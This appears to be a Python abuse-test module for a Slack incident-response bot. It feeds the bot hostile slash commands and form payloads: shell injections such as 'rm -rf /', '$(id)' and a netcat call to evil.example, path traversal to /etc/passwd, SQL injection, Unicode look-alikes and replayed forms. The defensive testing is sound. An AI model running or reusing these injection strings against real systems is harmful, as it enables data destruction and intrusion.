"""What hostile people type after the command and into the form, and forms that are used once more, or by others."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Final

from firedoor.channels.slack import forms
from tests.abuse.acts import Where, doing, put
from tests.abuse.attempt import Attempt, Make, Theme
from tests.abuse.ground import KEY, Ground
from tests.channels.slack.samples import HOSTILE
from tests.channels.slack.scene import SlackMode

HIDDEN: Final[Where] = ("view", "private_metadata")
CHOSEN: Final[Where] = ("view", "state", "values", forms.PLAYBOOK, forms.CHOOSE)
SHELL: Final = (
    "; rm -rf /",
    "$(touch /tmp/pwned)",
    "`id`",
    "| nc evil.example 1",
    "&& firedoor approve r1",
    "> /etc/passwd",
    "--help",
    "-i users=x",
    "\\x00",
    "%00",
    "{{7*7}}",
    "${inputs.users}",
    "'; DROP TABLE events; --",
    "*",
)
PLAYBOOKS: Final[Mapping[str, str]] = {
    "a path upwards": "../../../etc/passwd",
    "a path": "/etc/passwd",
    "a file": "leaked-aws-key.yaml",
    "a path that leads back": "../playbooks/leaked-aws-key",
    "an encoded path": "..%2f..%2fetc%2fpasswd",
    "a Windows path": "..\\..\\leaked-aws-key",
    "a NUL": "leaked-aws-key\x00",
    "a look-alike": "leaked-\u0430ws-key",
    "wide letters": "\uff4ceaked-aws-key",
    "capitals": "LEAKED-AWS-KEY",
    "an invisible letter": "leaked-aws-key\u200b",
    "writing turned round": "\u202eyek-swa-dekael",
    "4 kB": "x" * 4000,
    "a broadcast": "<!channel>",
    "a pattern": "leaked-*",
    "the schema": "schema",
    "an action": "aws.deny_principal",
}
GIVEN: Final[Mapping[str, str]] = {
    "no value": "access_keys",
    "an empty value": "access_keys=",
    "an empty key": f"={KEY}",
    "an unknown key": f"access_keys={KEY} root=1",
    "a secret": "access_keys=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "a shell": f"access_keys={KEY};id",
    "a substitution": "access_keys=$(id)",
    "a reference": "access_keys=${inputs.access_keys}",
    "4 kB": "access_keys=" + "A" * 3900,
    "300 keys": " ".join(f"k{number}={KEY}" for number in range(150)),
    "600 values": "access_keys=" + ",".join(["AKIAIOSFODNN7EXAMPL" + letter for letter in "ABCDEFGH"] * 20)[:3900] + ",x",
    "a look-alike": "access_keys=\u0410KIAIOSFODNN7EXAMPLE",
    "wide letters": "access_keys=" + "".join(chr(ord(letter) + 0xFEE0) for letter in KEY),
    "an invisible letter": f"access_keys={KEY}\u200b",
    "a line end in it": f"access_keys={KEY[:10]}\n{KEY[10:]}",
    "an option for the run": f"run=r1 access_keys={KEY}",
    "an option for the mode": f"mode=drill access_keys={KEY}",
    "an option for the requester": f"requester=Ben access_keys={KEY}",
    "the protected": f"protected=true access_keys={KEY}",
    "breaking the glass": f"way=break-glass access_keys={KEY}",
    "a link": f"access_keys=<https://evil.example|{KEY}x>",
}
RUNS: Final[Mapping[str, str]] = {
    "one that does not exist": "r404",
    "one that is over": "{over}",
    "a path": "../{open}",
    "all": "*",
    "two": "{open} {over}",
    "a look-alike": "\u0433{open}",
    "in quotes": '"{open}"',
    "in brackets": "[{open}]",
    "SQL": "{open}' OR 1=1 --",
    "4 kB": "r" * 4000,
    "a NUL": "{open}\x00",
    "nothing": "",
    "a flag": "--all",
    "a mention": "<@U0BEN>",
    "the standing approval": "standing",
}
UNDONE: Final[Mapping[str, str]] = {"one that waits": "{open}", **{name: run for name, run in RUNS.items() if run != "{over}"}}
WORDS: Final = (
    "approve",
    "deny",
    "resume",
    "sign",
    "seal",
    "roster",
    "audit",
    "eval",
    "sudo stop {open}",
    "stop{open}",
    "approve {open}",
)


def attempts(way: SlackMode) -> Iterator[Attempt]:
    """Lines by those who may and by those who may not; forms again, and by others."""
    for what, playbook in PLAYBOOKS.items():
        for given in (f" access_keys={KEY}", ""):
            yield _line("playbook that is none", f"{what}{', with values' if given else ''}", f"contain {playbook}{given}")
        chosen = put({"selected_option": {"value": playbook}}, CHOSEN)
        hidden = put(f'{{"run":"261125-abcdef","shown":{_json(playbook)}}}', HIDDEN)
        make = doing("form", "U0ADA", chosen, hidden)
        yield Attempt(kind="playbook that is none", variation=f"form: {what}", make=make)
    for what, given in GIVEN.items():
        yield _line("values that are none", what, f"contain leaked-aws-key {given}")
    for number, words in enumerate(SHELL):
        for verb in ("contain leaked-aws-key", "stop", "undo", "freeze", "status", ""):
            yield _line("shell and markup", f"{verb or 'alone'} {number}", f"{verb} {words}".strip())
    for what, words in HOSTILE.items():
        if way == "http" and "\ud800" in words:
            continue  # a form of fields cannot hold half of a pair
        for verb in ("contain", "stop", "undo", "status", ""):
            yield _line("shell and markup", f"{verb or 'alone'} {what}", f"{verb} {words}".strip()[:4000])
    for what, run in RUNS.items():
        if run != "{open}":
            yield _line("stop of no such run", what, f"stop {run}", by="U0BEN")
    for what, run in UNDONE.items():
        yield _line("undo of no such run", what, f"undo {run}")
    for words in WORDS:
        yield _line("words that are none", words, words, by="U0BEN")
    for what, line in FREEZES.items():
        yield _line("freeze without a standing approval", what, line)
    yield from _forms()


FREEZES: Final[Mapping[str, str]] = {
    "one": "freeze ada@example.com",
    "ten": "freeze " + " ".join(f"u{number}@example.com" for number in range(10)),
    "nobody": "freeze",
    "4 kB": "freeze " + "x" * 3900,
    "everybody": "freeze *",
    "a flag": "freeze --standing forged ada@example.com",
}
MEMORY: Final[Mapping[str, object]] = {
    "no memory": "",
    "none": None,
    "a list": ["r1"],
    "no JSON": "{",
    "a list in JSON": "[]",
    "a number in JSON": "7",
    "brackets without end": "[" * 3000,
    "no run": '{"shown":"leaked-aws-key"}',
    "a run that is none": '{"run":"r1","shown":"leaked-aws-key"}',
    "a run that is a path": '{"run":"../r1","shown":"leaked-aws-key"}',
    "a run that is a list": '{"run":["r1"],"shown":"leaked-aws-key"}',
    "the standing approval": '{"run":"standing","shown":"leaked-aws-key"}',
    "an empty run": '{"run":" ","shown":"leaked-aws-key"}',
    "half of a pair": '{"run":"261125-abcde\\ud800","shown":"leaked-aws-key"}',
    "wide digits": '{"run":"\uff12\uff1661125-abcdef","shown":"leaked-aws-key"}',
    "a line end": '{"run":"261125-abcdef\\n","shown":"leaked-aws-key"}',
    "a huge number": '{"run":' + "9" * 2900 + "}",
}


def _forms() -> Iterator[Attempt]:
    for what, memory in MEMORY.items():
        yield Attempt(kind="edited form", variation=what, make=doing("form", "U0ADA", put(memory, HIDDEN)))
    for who in ("U0ADA", "U0BEN", "U0CYD"):
        for times in (1, 2, 5):
            yield Attempt(kind="form submitted again", variation=f"{who}, {times} times", make=_again(who, times))


def _again(member: str, times: int) -> Make:
    """The form that the first run came of: its name is used up, whoever uses it."""

    async def make(ground: Ground) -> None:
        for _ in range(times):
            await ground.send("interactive", ground.form(member, run=ground.kept["form"]))

    return make


def _line(kind: str, variation: str, line: str, *, by: str = "U0ADA") -> Attempt:
    async def make(ground: Ground) -> None:
        filled = line.replace("{open}", ground.open).replace("{over}", ground.over)
        await ground.send("slash_commands", ground.command(by, filled))

    return Attempt(kind=kind, variation=variation, make=make)


def _json(text: str) -> str:
    return json.dumps(text)


async def _prepare(ground: Ground) -> None:
    await ground.prepare()
    ground.kept["form"] = "261125-0f0f0f"
    await ground.send("interactive", ground.form("U0ADA", run=ground.kept["form"]))
    assert ground.kept["form"] in await ground.stage.lab.journal.runs()


THEME: Final = Theme(name="lines", attempts=attempts, prepare=_prepare, control=Ground.control)
